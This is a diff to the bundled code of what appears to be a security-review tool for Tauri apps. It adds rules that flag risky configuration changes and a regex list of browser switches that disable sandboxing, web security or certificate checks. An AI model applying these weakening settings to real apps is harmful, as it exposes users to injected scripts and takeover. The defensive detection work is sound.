@@ -172,7 +172,7 @@ var require_b4a = __commonJS({
     function includes(buffer, value, byteOffset, encoding) {
       return toBuffer(buffer).includes(value, byteOffset, encoding);
     }
-    function indexOf2(buffer, value, byfeOffset, encoding) {
+    function indexOf3(buffer, value, byfeOffset, encoding) {
       return toBuffer(buffer).indexOf(value, byfeOffset, encoding);
     }
     function lastIndexOf(buffer, value, byteOffset, encoding) {
@@ -262,7 +262,7 @@ var require_b4a = __commonJS({
       fill,
       from,
       includes,
-      indexOf: indexOf2,
+      indexOf: indexOf3,
       lastIndexOf,
       swap16,
       swap32,
@@ -1781,7 +1781,7 @@ var require_headers = __commonJS({
       }
       return 0;
     }
-    function indexOf2(block, num, offset, end) {
+    function indexOf3(block, num, offset, end) {
       for (; offset < end; offset++) {
         if (block[offset] === num) return offset;
       }
@@ -1838,14 +1838,14 @@ var require_headers = __commonJS({
         return parse256(val);
       } else {
         while (offset < val.length && val[offset] === 32) offset++;
-        const end = clamp(indexOf2(val, 32, offset, val.length), val.length, val.length);
+        const end = clamp(indexOf3(val, 32, offset, val.length), val.length, val.length);
         while (offset < end && val[offset] === 0) offset++;
         if (end === offset) return 0;
         return parseInt(b4a.toString(val.subarray(offset, end)), 8);
       }
     }
     function decodeStr(val, offset, length, encoding) {
-      return b4a.toString(val.subarray(offset, indexOf2(val, 0, offset, offset + length)), encoding);
+      return b4a.toString(val.subarray(offset, indexOf3(val, 0, offset, offset + length)), encoding);
     }
     function addLength(str) {
       const len = b4a.byteLength(str);
@@ -1862,7 +1862,7 @@ var require_extract = __commonJS({
     var { Writable, Readable: Readable2, getStreamError } = require_streamx();
     var FIFO = require_fast_fifo();
     var b4a = require_b4a();
-    var headers = require_headers();
+    var headers2 = require_headers();
     var EMPTY2 = b4a.alloc(0);
     var MAX_HEADER_SIZE = 4 * 1024 * 1024;
     var BufferList = class {
@@ -1972,7 +1972,7 @@ var require_extract = __commonJS({
         if (this._locked) return false;
         this._offset = this._buffer.shifted;
         try {
-          this._header = headers.decode(this._buffer.shift(512), this._filenameEncoding, this._allowUnknownFormat);
+          this._header = headers2.decode(this._buffer.shift(512), this._filenameEncoding, this._allowUnknownFormat);
         } catch (err) {
           this._continueWrite(err);
           return false;
@@ -2027,16 +2027,16 @@ var require_extract = __commonJS({
       _decodeLongHeader(buf) {
         switch (this._header.type) {
           case "gnu-long-path":
-            this._gnuLongPath = headers.decodeLongPath(buf, this._filenameEncoding);
+            this._gnuLongPath = headers2.decodeLongPath(buf, this._filenameEncoding);
             break;
           case "gnu-long-link-path":
-            this._gnuLongLinkPath = headers.decodeLongPath(buf, this._filenameEncoding);
+            this._gnuLongLinkPath = headers2.decodeLongPath(buf, this._filenameEncoding);
             break;
           case "pax-global-header":
-            this._paxGlobal = headers.decodePax(buf);
+            this._paxGlobal = headers2.decodePax(buf);
             break;
           case "pax-header":
-            this._pax = this._paxGlobal === null ? headers.decodePax(buf) : Object.assign({}, this._paxGlobal, headers.decodePax(buf));
+            this._pax = this._paxGlobal === null ? headers2.decodePax(buf) : Object.assign({}, this._paxGlobal, headers2.decodePax(buf));
             break;
         }
       }
@@ -2226,7 +2226,7 @@ var require_pack = __commonJS({
     var { Readable: Readable2, Writable, getStreamError } = require_streamx();
     var b4a = require_b4a();
     var constants = require_constants();
-    var headers = require_headers();
+    var headers2 = require_headers();
     var DMODE = 493;
     var FMODE = 420;
     var END_OF_TAR = b4a.alloc(1024);
@@ -2369,7 +2369,7 @@ var require_pack = __commonJS({
       }
       _encode(header) {
         if (!header.pax) {
-          const buf = headers.encode(header);
+          const buf = headers2.encode(header);
           if (buf) {
             this.push(buf);
             return;
@@ -2378,7 +2378,7 @@ var require_pack = __commonJS({
         this._encodePax(header);
       }
       _encodePax(header) {
-        const paxHeader = headers.encodePax({
+        const paxHeader = headers2.encodePax({
           name: header.name,
           linkname: header.linkname,
           pax: header.pax
@@ -2397,12 +2397,12 @@ var require_pack = __commonJS({
           devmajor: header.devmajor,
           devminor: header.devminor
         };
-        this.push(headers.encode(newHeader));
+        this.push(headers2.encode(newHeader));
         this.push(paxHeader);
         overflow(this, paxHeader.byteLength);
         newHeader.size = header.size;
         newHeader.type = header.type;
-        this.push(headers.encode(newHeader));
+        this.push(headers2.encode(newHeader));
       }
       _doDrain() {
         const drain = this._drain;
@@ -14776,14 +14776,14 @@ function readTable(root, node, place) {
 }
 function assign(table3, { key, value }, depth, place) {
   const { parents, last: last2 } = partsOf(key);
-  const below2 = depth + parents.length + 1;
-  refuseDepth(below2, key.range[0]);
+  const below3 = depth + parents.length + 1;
+  refuseDepth(below3, key.range[0]);
   const holder = parents.reduce((at, part) => enter(at, part, place), table3);
-  holder.entries.set(nameOf(last2), { key: place(last2.range), value: convert(value, below2, place) });
+  holder.entries.set(nameOf(last2), { key: place(last2.range), value: convert(value, below3, place) });
 }
 function enter(table3, key, place) {
-  const known = table3.entries.get(nameOf(key))?.value;
-  if (known !== void 0) return latest(known, key);
+  const known2 = table3.entries.get(nameOf(key))?.value;
+  if (known2 !== void 0) return latest(known2, key);
   const made = tableAt(place(key.range));
   table3.entries.set(nameOf(key), { key: place(key.range), value: made });
   return made;
@@ -14799,9 +14799,9 @@ function latest(value, key) {
 }
 function append(holder, key, header, place) {
   const made = tableAt(header);
-  const known = holder.entries.get(nameOf(key))?.value;
-  if (known?.kind === "array") {
-    known.items.push(made);
+  const known2 = holder.entries.get(nameOf(key))?.value;
+  if (known2?.kind === "array") {
+    known2.items.push(made);
     return made;
   }
   const list = { kind: "array", items: [made], at: header };
@@ -15555,8 +15555,8 @@ var Schema = class Schema2 {
   }
   /** @internal */
   resolveImplicitScalarTag(source) {
-    const candidates = this.implicitScalarByFirstChar.get(source.charAt(0)) ?? this.implicitScalarAnyFirstChar;
-    for (const tag2 of candidates) {
+    const candidates2 = this.implicitScalarByFirstChar.get(source.charAt(0)) ?? this.implicitScalarAnyFirstChar;
+    for (const tag2 of candidates2) {
       const value = tag2.resolve(source, false, tag2.tagName);
       if (value !== NOT_RESOLVED) return {
         value,
@@ -17481,8 +17481,8 @@ function reasonOf2(error, text) {
 // src/formats/parse.ts
 function parseFile(file2, options = {}) {
   const format = formatOf(file2.path, options.json5 ?? false);
-  const known = parsed.get(file2)?.get(format);
-  if (known !== void 0) return known;
+  const known2 = parsed.get(file2)?.get(format);
+  if (known2 !== void 0) return known2;
   const result = parseAs(file2, format);
   const results = parsed.get(file2) ?? /* @__PURE__ */ new Map();
   parsed.set(file2, results.set(format, result));
@@ -18018,9 +18018,9 @@ function cratesAdapter({ index, cache = noCache(), limits: changed = {} }) {
   const limits = { ...CRATES_LIMITS, ...changed };
   return {
     async fetch(needs) {
-      const crates = [...new Map(needs.map((need) => [needKey(need), need])).values()];
+      const crates2 = [...new Map(needs.map((need) => [needKey(need), need])).values()];
       const answers = /* @__PURE__ */ new Map();
-      const rest = await fromCache(crates, cache, answers);
+      const rest = await fromCache(crates2, cache, answers);
       const asked = rest.filter(({ registry }) => registry === null);
       const chosen = asked.slice(0, limits.crates);
       await fetchAll(chosen);
@@ -18047,16 +18047,16 @@ function cratesAdapter({ index, cache = noCache(), limits: changed = {} }) {
   };
 }
 var FOREIGN = "it comes from another registry than crates.io, and Toril asks no address that a lockfile names";
-function overBudget(crates) {
-  return `only ${crates} crates are fetched in one run; run again with the cache that this run has filled`;
+function overBudget(crates2) {
+  return `only ${crates2} crates are fetched in one run; run again with the cache that this run has filled`;
 }
 function unknown(reason) {
   return { answer: { unknown: reason }, source: "registry" };
 }
 async function fromCache(needs, cache, answers) {
-  const known = await concurrently(needs, 64, ({ checksum }) => cache.get(checksum));
+  const known2 = await concurrently(needs, 64, ({ checksum }) => cache.get(checksum));
   return needs.filter((need, at) => {
-    const answer = known[at];
+    const answer = known2[at];
     if (answer !== void 0) answers.set(need, { answer, source: "cache" });
     return answer === void 0;
   });
@@ -18327,12 +18327,164 @@ var rule3 = {
 var rule_default3 = rule3;
 
 // src/rules/config-words.ts
+function onLever(change, lever) {
+  return change.domain === "config" && change.lever === lever ? change : void 0;
+}
 function mayNewly({ subject, action }) {
   return `${subject} can newly ${action}`;
 }
+function weighed({ appIsNew }, severity) {
+  return appIsNew && atLeast(severity, "low") ? "low" : severity;
+}
+function isLoopback(origin) {
+  return /:\/\/(?:localhost|127(?:\.\d+){3}|\[::1\])(?::\d+)?$/i.test(origin);
+}
+function siteKind(origin) {
+  if (!/^https?:\/\//.test(origin)) return "no-site";
+  if (isLoopback(origin)) return "loopback";
+  return origin.startsWith("http:") ? "plain" : "secure";
+}
+
+// src/rules/config/browser-extensions-allowed/rule.ts
+var rule4 = {
+  id: "config/browser-extensions-allowed",
+  title: "Browser extensions may run in the app",
+  judge(change) {
+    const found2 = onLever(change, "browser-extensions-allowed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "An extension reads and changes every page of the window, outside of the app's Content Security Policy, and can call what the page may call.",
+      remedy: "Leave `browserExtensionsEnabled` off, or turn it on for a window alone that has no capabilities."
+    };
+  }
+};
+var rule_default4 = rule4;
+
+// src/rules/config/browser-switch-added/rule.ts
+var rule5 = {
+  id: "config/browser-switch-added",
+  title: "The browser runs with another switch",
+  judge(change) {
+    const found2 = onLever(change, "browser-switch-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf(found2.extent)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The browser trusts such switches more than anything that a page or the configuration says, and they hold for every page of the window.",
+      remedy: "Remove the switch from `additionalBrowserArgs`; for trying something out, set it in the environment of the developer's machine."
+    };
+  }
+};
+var rule_default5 = rule5;
+var CRITICAL = /^--(?:disable-web-security|allow-running-insecure-content|ignore-certificate-errors(?:-.*)?|remote-debugging-(?:port|address|pipe)|no-sandbox|disable-setuid-sandbox|allow-file-access-from-files|unsafely-treat-insecure-origin-as-secure)(?:=|$)/;
+var HIGH = /^--(?:disable-site-isolation-trials|disable-features=(?:IsolateOrigins|site-per-process|BlockInsecurePrivateNetworkRequests)|load-extension|disable-extensions-except|proxy-server|proxy-pac-url|host-rules|host-resolver-rules|remote-allow-origins|user-data-dir|js-flags|use-fake-ui-for-media-stream)(?:=|$)/i;
+function severityOf(extent) {
+  if (CRITICAL.test(extent)) return "critical";
+  return HIGH.test(extent) ? "high" : "low";
+}
+
+// src/rules/config/cargo-feature-added/rule.ts
+var rule6 = {
+  id: "config/cargo-feature-added",
+  title: "A Cargo feature opens something",
+  judge(change) {
+    const found2 = onLever(change, "cargo-feature-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, SEVERITIES2[found2.extent] ?? "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "What the feature adds is in every build of the app. Permissions still decide who calls the plugin, and not what it then accepts.",
+      remedy: "Turn the feature on only in the builds that need it, behind a feature of the app's own that is off by default."
+    };
+  }
+};
+var rule_default6 = rule6;
+var SEVERITIES2 = {
+  "tauri-plugin-http/dangerous-settings": "high",
+  "tauri-plugin-http/unsafe-headers": "medium",
+  "tauri/webview-data-url": "medium",
+  "tauri-plugin-fs/watch": "info"
+};
+
+// src/rules/config/devtools-in-release/rule.ts
+var rule7 = {
+  id: "config/devtools-in-release",
+  title: "The inspector is in releases",
+  judge(change) {
+    const found2 = onLever(change, "devtools-in-release");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "In its console one can call everything that the page may call, on any machine where the app is left open.",
+      remedy: "Take `devtools` out of the features of `tauri`: development builds have the inspector without it. Or set `devtools: false` for the windows."
+    };
+  }
+};
+var rule_default7 = rule7;
+
+// src/rules/config/dropped-files-in-scope/rule.ts
+var rule8 = {
+  id: "config/dropped-files-in-scope",
+  title: "Dropped files join the scope",
+  judge(change) {
+    const found2 = onLever(change, "dropped-files-in-scope");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Whatever someone drops is then open to every webview with a permission of the plugin, folders with all that is in them.",
+      remedy: "Set `plugins.fs.scopeDroppedPaths` to `false`, with version 2.7 or later of the plugin."
+    };
+  }
+};
+var rule_default8 = rule8;
+
+// src/rules/config/engine-not-bundled/rule.ts
+var rule9 = {
+  id: "config/engine-not-bundled",
+  title: "The browser engine is loaded from elsewhere",
+  judge(change) {
+    const found2 = onLever(change, "engine-not-bundled");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The engine that shows the app is then a library that the app finds when it starts. Who can write it, or set `TAURI_CEF_LIBRARY_PATH`, runs code as the app.",
+      remedy: "Leave `bundle.cef.embed` on, so that the engine is signed and installed with the app."
+    };
+  }
+};
+var rule_default9 = rule9;
+
+// src/rules/config/engine-replaced/rule.ts
+var rule10 = {
+  id: "config/engine-replaced",
+  title: "The app brings its own browser engine",
+  judge(change) {
+    const found2 = onLever(change, "engine-replaced");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Holes in the engine are then closed by updates of the app and no longer by the system, and the engine is fetched when the app is built.",
+      remedy: "Plan for an update of the app with each security release of Chromium, and pin where the build takes the engine from."
+    };
+  }
+};
+var rule_default10 = rule10;
 
 // src/rules/config/global-api-exposed/rule.ts
-var rule4 = {
+var rule11 = {
   id: "config/global-api-exposed",
   title: "Tauri's API is under a global name",
   judge(change) {
@@ -18346,7 +18498,274 @@ var rule4 = {
     };
   }
 };
-var rule_default4 = rule4;
+var rule_default11 = rule11;
+
+// src/rules/config/header-weakened/rule.ts
+var rule12 = {
+  id: "config/header-weakened",
+  title: "A header of the app's pages is weaker",
+  judge(change) {
+    const found2 = onLever(change, "header-weakened");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf2(found2.extent)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The header goes out with the app's own files, so it counts for what they embed, open and answer to.",
+      remedy: "Send the header with its stricter value, or leave away what opens more."
+    };
+  }
+};
+var rule_default12 = rule12;
+var DEVICES = /^Permissions-Policy(?:$|: (?:camera|microphone|geolocation|display-capture)(?!: self$))/;
+function severityOf2(extent) {
+  if (DEVICES.test(extent)) return "medium";
+  return extent.startsWith("Timing-Allow-Origin") ? "info" : "low";
+}
+
+// src/rules/config/isolation-removed/rule.ts
+var rule13 = {
+  id: "config/isolation-removed",
+  title: "Messages to Rust no longer pass the isolation hook",
+  judge(change) {
+    const found2 = onLever(change, "isolation-removed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The hook could look at every call before Rust saw it. A script that someone else got into a page now talks to Rust directly.",
+      remedy: "Keep `pattern.use` at `isolation`. If the hook only hands calls on, say so in the pull request."
+    };
+  }
+};
+var rule_default13 = rule13;
+
+// src/rules/config/link-scheme-claimed/rule.ts
+var rule14 = {
+  id: "config/link-scheme-claimed",
+  title: "Links of websites open the app",
+  judge(change) {
+    const found2 = onLever(change, "link-scheme-claimed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The text of the link is chosen by whoever wrote it. Another app can claim the same scheme, and then gets what was meant for this one.",
+      remedy: "Treat the link as hostile in the handler, and hand over no tokens by a custom scheme."
+    };
+  }
+};
+var rule_default14 = rule14;
+
+// src/rules/config/local-scheme-added/rule.ts
+var rule15 = {
+  id: "config/local-scheme-added",
+  title: "A scheme of the app's own counts as local",
+  judge(change) {
+    const found2 = onLever(change, "local-scheme-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "A page under that scheme is as good as the app's own, whatever its handler takes it from: files, the network or an archive.",
+      remedy: "Answer only with files of the app and with types that hold no script, or open such pages in a window without capabilities."
+    };
+  }
+};
+var rule_default15 = rule15;
+
+// src/rules/config/prototype-unfrozen/rule.ts
+var rule16 = {
+  id: "config/prototype-unfrozen",
+  title: "Objects' common ancestor can be changed",
+  judge(change) {
+    const found2 = onLever(change, "prototype-unfrozen");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "A script that gets into a page can then change what Tauri's own scripts do with plain objects, and so what they send.",
+      remedy: "Keep `freezePrototype` on; a library that breaks with it can mostly be replaced or patched."
+    };
+  }
+};
+var rule_default16 = rule16;
+
+// src/rules/config/redirects-unscoped/rule.ts
+var rule17 = {
+  id: "config/redirects-unscoped",
+  title: "Redirects leave the scope of requests",
+  judge(change) {
+    const found2 = onLever(change, "redirects-unscoped");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Only the URL that a page asked for is checked. A server in the scope, or an open redirect on it, then hands the page answers of any other host, such as `localhost`.",
+      remedy: "Set `plugins.http.scopeRedirects` to `true`, with version 2.7 or later of the plugin."
+    };
+  }
+};
+var rule_default17 = rule17;
+
+// src/rules/config/remote-frontend/rule.ts
+var rule18 = {
+  id: "config/remote-frontend",
+  title: "A website is the app",
+  judge(change) {
+    const found2 = onLever(change, "remote-frontend");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: severityOf3(found2.extent),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Pages from there count as the app's own: they have every permission of local pages, and no Content Security Policy of the app. Whoever changes that server, or stands in for it, changes the app of everyone.",
+      remedy: "Build the frontend into the app: set `frontendDist` to its folder."
+    };
+  }
+};
+var rule_default18 = rule18;
+function severityOf3(origin) {
+  const kind = siteKind(origin);
+  if (kind === "no-site") return "low";
+  return kind === "loopback" ? "high" : "critical";
+}
+
+// src/rules/config/remote-window/rule.ts
+var rule19 = {
+  id: "config/remote-window",
+  title: "A window shows a website",
+  judge(change) {
+    const found2 = onLever(change, "remote-window");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf4(found2.extent)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The site's scripts run in a window of the app, which looks like the app. Capabilities decide what they may call; before Tauri 2.11.1 the app's own commands may be open to them.",
+      remedy: "Open sites in the person's browser, or keep the window out of every capability's patterns."
+    };
+  }
+};
+var rule_default19 = rule19;
+function severityOf4(extent) {
+  const kind = siteKind(extent.slice(extent.lastIndexOf(" ") + 1));
+  if (kind === "no-site") return "low";
+  return kind === "plain" ? "critical" : "high";
+}
+
+// src/rules/config/scope-opened-by-code/rule.ts
+var rule20 = {
+  id: "config/scope-opened-by-code",
+  title: "Code adds paths to a scope",
+  judge(change) {
+    const found2 = onLever(change, "scope-opened-by-code");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, found2.extent.includes(" allow_file") ? "low" : "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "No capability shows it. From then on the paths are open to pages, until the app ends.",
+      remedy: "Add the narrowest path that does, after a person has chosen it, and a file rather than a folder."
+    };
+  }
+};
+var rule_default20 = rule20;
+
+// src/rules/config/scopes-persisted/rule.ts
+var rule21 = {
+  id: "config/scopes-persisted",
+  title: "What a person allowed once stays allowed",
+  judge(change) {
+    const found2 = onLever(change, "scopes-persisted");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Without it, files that someone picked or dropped are out of reach after a restart. With it they stay open to every page with a permission of the plugin, until the list is deleted.",
+      remedy: "Leave the plugin away, or ask the person again for files that are no longer open."
+    };
+  }
+};
+var rule_default21 = rule21;
+
+// src/rules/config/served-on-localhost/rule.ts
+var rule22 = {
+  id: "config/served-on-localhost",
+  title: "The app is served over HTTP",
+  judge(change) {
+    const found2 = onLever(change, "served-on-localhost");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The pages then come from an address that other programs can ask and, before the app starts or after it ends, take over. The capabilities that the app needs for it hold for whatever answers there.",
+      remedy: "Use Tauri's own protocol, which nothing else on the machine can reach."
+    };
+  }
+};
+var rule_default22 = rule22;
+
+// src/rules/config/sidecar-added/rule.ts
+var rule23 = {
+  id: "config/sidecar-added",
+  title: "Another program is shipped with the app",
+  judge(change) {
+    const found2 = onLever(change, "sidecar-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "It is signed and installed as part of the app, and its code is mostly not in the repository. The app's code can start it at any time, pages where the shell plugin's scope says so.",
+      remedy: "Say where the program comes from, and let the build check its hash."
+    };
+  }
+};
+var rule_default23 = rule23;
+
+// src/rules/config/traffic-proxied/rule.ts
+var rule24 = {
+  id: "config/traffic-proxied",
+  title: "A window's traffic goes through a proxy",
+  judge(change) {
+    const found2 = onLever(change, "traffic-proxied");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, isLoopback(found2.extent) ? "medium" : "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Whoever runs the proxy sees which hosts the window asks, and can read and change everything that isn't encrypted.",
+      remedy: "Leave `proxyUrl` away: the webview then uses the proxy that the person's system has."
+    };
+  }
+};
+var rule_default24 = rule24;
+
+// src/rules/config/window-added/rule.ts
+var rule25 = {
+  id: "config/window-added",
+  title: "The app has another window",
+  judge(change) {
+    const found2 = onLever(change, "window-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Capabilities name windows by patterns: each whose pattern the name matches holds for the new window too, without a change of its own.",
+      remedy: "Check which capabilities have a pattern such as `*` that matches the name."
+    };
+  }
+};
+var rule_default25 = rule25;
 
 // src/rules/csp-words.ts
 function allowedNewly(change, ...classes) {
@@ -18396,7 +18815,7 @@ var SHORT = {
 };
 
 // src/rules/csp/connection-allowed/rule.ts
-var rule5 = {
+var rule26 = {
   id: "csp/connection-allowed",
   title: "Data may be sent to and fetched from somewhere new",
   judge(change) {
@@ -18411,11 +18830,11 @@ var rule5 = {
     };
   }
 };
-var rule_default5 = rule5;
+var rule_default26 = rule26;
 var WEIGHTS = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/rules/csp/document-guard-removed/rule.ts
-var rule6 = {
+var rule27 = {
   id: "csp/document-guard-removed",
   title: "A guard of the document is gone",
   judge(change) {
@@ -18433,7 +18852,7 @@ var rule6 = {
     };
   }
 };
-var rule_default6 = rule6;
+var rule_default27 = rule27;
 var GUARDS = {
   form: {
     severity: "medium",
@@ -18474,7 +18893,7 @@ var GUARDS = {
 };
 
 // src/rules/csp/eval-allowed/rule.ts
-var rule7 = {
+var rule28 = {
   id: "csp/eval-allowed",
   title: "Strings may be turned into code",
   judge(change) {
@@ -18490,10 +18909,10 @@ var rule7 = {
     };
   }
 };
-var rule_default7 = rule7;
+var rule_default28 = rule28;
 
 // src/rules/csp/frame-allowed/rule.ts
-var rule8 = {
+var rule29 = {
   id: "csp/frame-allowed",
   title: "Other pages may be shown in frames",
   judge(change) {
@@ -18511,11 +18930,11 @@ var rule8 = {
     };
   }
 };
-var rule_default8 = rule8;
+var rule_default29 = rule29;
 var WEIGHTS2 = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/rules/csp/inline-script-allowed/rule.ts
-var rule9 = {
+var rule30 = {
   id: "csp/inline-script-allowed",
   title: "Scripts written into a page may run",
   judge(change) {
@@ -18532,7 +18951,7 @@ var rule9 = {
     };
   }
 };
-var rule_default9 = rule9;
+var rule_default30 = rule30;
 var ANY_TEXT = "Whatever text ends up in a page unescaped can then run as a script and call the commands of its window.";
 var STATIC_NONCE = "A nonce that stands in the configuration is the same for everyone, so an injected script can carry it too.";
 var ONE_TEXT = "Only this one text may run, wherever in a page it stands.";
@@ -18543,7 +18962,7 @@ function what(allowed, oneText, nonce) {
 }
 
 // src/rules/csp/media-allowed/rule.ts
-var rule10 = {
+var rule31 = {
   id: "csp/media-allowed",
   title: "Images, fonts or media may be loaded from somewhere new",
   judge(change) {
@@ -18558,7 +18977,7 @@ var rule10 = {
     };
   }
 };
-var rule_default10 = rule10;
+var rule_default31 = rule31;
 var WEIGHTS3 = { anywhere: "low", host: "info", app: "info", none: "info" };
 var WHAT = {
   image: "load images",
@@ -18569,7 +18988,7 @@ var WHAT = {
 };
 
 // src/rules/csp/policy-removed/rule.ts
-var rule11 = {
+var rule32 = {
   id: "csp/policy-removed",
   title: "The app has no Content Security Policy any more",
   judge(change) {
@@ -18585,7 +19004,7 @@ var rule11 = {
     };
   }
 };
-var rule_default11 = rule11;
+var rule_default32 = rule32;
 var STRICT = /* @__PURE__ */ new Set([
   "inline-script",
   "script",
@@ -18604,7 +19023,7 @@ var REMEDY = {
 };
 
 // src/rules/csp/report-collector-added/rule.ts
-var rule12 = {
+var rule33 = {
   id: "csp/report-collector-added",
   title: "Blocked requests are reported to somewhere new",
   judge(change) {
@@ -18619,17 +19038,17 @@ var rule12 = {
     };
   }
 };
-var rule_default12 = rule12;
+var rule_default33 = rule33;
 
 // src/rules/csp/script-allowed/rule.ts
-var rule13 = {
+var rule34 = {
   id: "csp/script-allowed",
   title: "Scripts may be loaded from somewhere new",
   judge(change) {
     const allowed = allowedNewly(change, "script");
     if (!allowed) return void 0;
     return {
-      severity: severityOf(allowed),
+      severity: severityOf5(allowed),
       confidence: "certain",
       title: mayNewly2(allowed, `load scripts ${fromWhere(allowed, "from")}`),
       message: `A script that a page loads can call every command that its window may call. ${whoWrites(allowed)}${alsoInWords(allowed)}`,
@@ -18637,8 +19056,8 @@ var rule13 = {
     };
   }
 };
-var rule_default13 = rule13;
-function severityOf({ extent, targets }) {
+var rule_default34 = rule34;
+function severityOf5({ extent, targets }) {
   if (extent === "host") return targets.some(anyoneMayPublish) ? "high" : "medium";
   if (extent === "app") return "info";
   if (targets.includes("hash")) return "low";
@@ -18656,7 +19075,7 @@ function anyoneMayPublish(target) {
 }
 
 // src/rules/csp/style-allowed/rule.ts
-var rule14 = {
+var rule35 = {
   id: "csp/style-allowed",
   title: "Styles may come from somewhere new",
   judge(change) {
@@ -18676,11 +19095,11 @@ var rule14 = {
     };
   }
 };
-var rule_default14 = rule14;
+var rule_default35 = rule35;
 var WEIGHTS4 = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/rules/csp/worker-allowed/rule.ts
-var rule15 = {
+var rule36 = {
   id: "csp/worker-allowed",
   title: "Workers may be started from somewhere new",
   judge(change) {
@@ -18695,7 +19114,7 @@ var rule15 = {
     };
   }
 };
-var rule_default15 = rule15;
+var rule_default36 = rule36;
 var WEIGHTS5 = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/domain/ipc.ts
@@ -18764,8 +19183,8 @@ var POWER = {
 };
 var GETTERS = /\|(?:is_|get_|inner_|outer_|scale_factor|title$|theme$|available_monitors|current_monitor|primary_monitor|name$|version$|tauri_version|identifier$|basename|dirname|extname|join|normalize|resolve)/;
 function powerOf(command) {
-  const known = Object.hasOwn(POWER, command) ? POWER[command] : void 0;
-  return known ?? (GETTERS.test(command) ? 0 : 1);
+  const known2 = Object.hasOwn(POWER, command) ? POWER[command] : void 0;
+  return known2 ?? (GETTERS.test(command) ? 0 : 1);
 }
 function byPower(a, b) {
   return powerOf(b) - powerOf(a) || (a < b ? -1 : a > b ? 1 : 0);
@@ -18927,7 +19346,7 @@ function whereOf({ platforms }) {
 function exampleOf({ example }) {
   return example === null ? "" : `, for example with ${code(example)}`;
 }
-function severityOf2(change) {
+function severityOf6(change) {
   const steps = ["low", "medium", "high", "critical"];
   const power = powerOf(change.commands.includes(change.witness.command) ? change.witness.command : "*");
   const step = change.reach === "nothing" ? 0 : change.reach === "bounded" ? power - 2 : power - 1;
@@ -18953,7 +19372,7 @@ function removeHint({ permission: permission2, capability }) {
 }
 
 // src/rules/ipc/app-commands-open/rule.ts
-var rule16 = {
+var rule37 = {
   id: "ipc/app-commands-open",
   title: "Every command of the app is open",
   judge(change) {
@@ -18967,7 +19386,7 @@ var rule16 = {
     };
   }
 };
-var rule_default16 = rule16;
+var rule_default37 = rule37;
 function wordsFor({ remote, capability }) {
   if (capability === ALLOWLIST) {
     return {
@@ -18988,13 +19407,13 @@ function wordsFor({ remote, capability }) {
 }
 
 // src/rules/ipc/command-granted/rule.ts
-var rule17 = {
+var rule38 = {
   id: "ipc/command-granted",
   title: "A command is newly callable",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "command-granted") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: worthOf(change),
@@ -19002,7 +19421,7 @@ var rule17 = {
     };
   }
 };
-var rule_default17 = rule17;
+var rule_default38 = rule38;
 function remedyFor(change) {
   if (change.reach === "sensitive")
     return `Narrow the scope to what the app needs, or ${removeHint(change)}.`;
@@ -19010,13 +19429,13 @@ function remedyFor(change) {
 }
 
 // src/rules/ipc/deny-removed/rule.ts
-var rule18 = {
+var rule39 = {
   id: "ipc/deny-removed",
   title: "A denial is gone",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "deny-removed") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
